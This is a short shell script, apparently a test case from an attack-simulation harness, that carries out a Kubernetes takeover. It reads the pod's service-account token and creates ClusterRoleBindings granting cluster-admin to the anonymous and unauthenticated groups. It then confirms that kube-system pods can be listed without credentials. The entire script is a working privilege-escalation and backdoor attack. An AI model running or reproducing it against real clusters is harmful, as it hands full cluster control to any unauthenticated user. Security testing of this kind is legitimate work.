#!/bin/sh
. /opt/case/case.sh

t=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
for who in system:anonymous system:unauthenticated; do
    curl -sf -X POST -H "Authorization: Bearer $t" -H 'Content-Type: application/json' http://10.77.0.1:6443/apis/rbac.authorization.k8s.io/v1/clusterrolebindings \
        -d "{\"kind\":\"ClusterRoleBinding\",\"metadata\":{\"name\":\"system-$who\"},\"roleRef\":{\"kind\":\"ClusterRole\",\"name\":\"cluster-admin\"},\"subjects\":[{\"kind\":\"Group\",\"name\":\"$who\"}]}" >/dev/null
done
curl -sf http://10.77.0.1:6443/api/v1/namespaces/kube-system/pods | grep -q PodList
took_place
